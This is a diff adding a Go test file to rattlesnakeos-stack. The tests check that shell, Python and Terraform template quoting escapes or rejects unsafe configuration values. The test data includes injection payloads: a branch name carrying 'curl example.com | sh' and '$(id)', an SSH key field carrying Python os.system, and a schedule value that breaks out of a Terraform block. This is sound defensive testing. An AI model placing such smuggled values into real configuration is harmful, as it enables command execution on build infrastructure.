@@ -0,0 +1,120 @@
+package templates
+
+import (
+	"github.com/dan-v/rattlesnakeos-stack/internal/devices"
+	"github.com/stretchr/testify/assert"
+	"io/ioutil"
+	"path/filepath"
+	"testing"
+)
+
+func TestQuote(t *testing.T) {
+	tests := map[string]struct {
+		quote       func(value interface{}) (string, error)
+		value       interface{}
+		expected    string
+		expectedErr error
+	}{
+		"shellquote leaves plain values alone": {
+			quote:    shellQuote,
+			value:    "https://github.com/example/repo",
+			expected: "https://github.com/example/repo",
+		},
+		"shellquote escapes quotes, expansions and command substitution": {
+			quote:    shellQuote,
+			value:    "main\"; echo $HOME `id` \\",
+			expected: "main\\\"; echo \\$HOME \\`id\\` \\\\",
+		},
+		"shellquote formats non string values": {
+			quote:    shellQuote,
+			value:    false,
+			expected: "false",
+		},
+		"shellquote rejects NUL": {
+			quote:       shellQuote,
+			value:       "main\x00",
+			expectedErr: ErrUnsafeValue,
+		},
+		"pyquote escapes quotes, backslashes and control characters": {
+			quote:    pyQuote,
+			value:    "it's \"quoted\" \\ \n\x01",
+			expected: "it\\'s \\\"quoted\\\" \\\\ \\n\\x01",
+		},
+		"pyquote rejects invalid UTF-8": {
+			quote:       pyQuote,
+			value:       "\xff",
+			expectedErr: ErrUnsafeValue,
+		},
+		"hclquote escapes quotes and template sequences": {
+			quote:    hclQuote,
+			value:    "\"${var.name}\" %{ if true } $5 100% C:\\stack\n",
+			expected: "\\\"$${var.name}\\\" %%{ if true } $5 100% C:\\\\stack\\n",
+		},
+		"hclquote rejects invalid UTF-8": {
+			quote:       hclQuote,
+			value:       "\xff",
+			expectedErr: ErrUnsafeValue,
+		},
+		"hclident accepts device names": {
+			quote:    hclIdent,
+			value:    "sargo",
+			expected: "sargo",
+		},
+		"hclident rejects values that aren't identifiers": {
+			quote:       hclIdent,
+			value:       "sargo\" {",
+			expectedErr: ErrUnsafeValue,
+		},
+	}
+
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			output, err := tc.quote(tc.value)
+			assert.ErrorIs(t, err, tc.expectedErr)
+
+			assert.Equal(t, tc.expected, output)
+		})
+	}
+}
+
+func TestTemplates_RenderAll_QuotesValues(t *testing.T) {
+	templateFiles := embeddedTemplateFiles(t)
+
+	config := *testConfig
+	config.Devices = []*devices.Device{
+		&devices.Device{Name: "sargo", Friendly: "Pixel 3a", Family: "bonito", AVBMode: devices.AVBModeChained},
+	}
+	config.CustomConfigRepoBranch = "main\"; curl example.com | sh; echo \"$(id)`id`"
+	config.SSHKey = "key'); import os; os.system('id"
+	config.Schedule = "rate(1 day)\"\n}\nresource \"aws_s3_bucket\" \"evil\" {"
+
+	outputDir := t.TempDir()
+	templates, err := New(&config, templateFiles, outputDir)
+	assert.Nil(t, err)
+	assert.Nil(t, templates.RenderAll())
+
+	buildScript, err := ioutil.ReadFile(filepath.Join(outputDir, defaultBuildScriptFilename))
+	assert.Nil(t, err)
+	assert.Contains(t, string(buildScript), "CUSTOM_CONFIG_REPO_BRANCH=\"main\\\"; curl example.com | sh; echo \\\"\\$(id)\\`id\\`\"")
+
+	lambdaFunction, err := ioutil.ReadFile(filepath.Join(outputDir, defaultLambdaFunctionFilename))
+	assert.Nil(t, err)
+	assert.Contains(t, string(lambdaFunction), "SSH_KEY_NAME = 'key\\'); import os; os.system(\\'id'")
+
+	terraform, err := ioutil.ReadFile(filepath.Join(outputDir, defaultTFMainFilename))
+	assert.Nil(t, err)
+	assert.Contains(t, string(terraform), "schedule_expression = \"rate(1 day)\\\"\\n}\\nresource \\\"aws_s3_bucket\\\" \\\"evil\\\" {\"")
+}
+
+func TestTemplates_RenderAll_RejectsUnsafeValues(t *testing.T) {
+	templateFiles := embeddedTemplateFiles(t)
+
+	config := *testConfig
+	config.Devices = []*devices.Device{
+		&devices.Device{Name: "sargo\" {", Friendly: "Pixel 3a", Family: "bonito", AVBMode: devices.AVBModeChained},
+	}
+
+	templates, err := New(&config, templateFiles, t.TempDir())
+	assert.Nil(t, err)
+	assert.ErrorIs(t, templates.RenderAll(), ErrUnsafeValue)
+}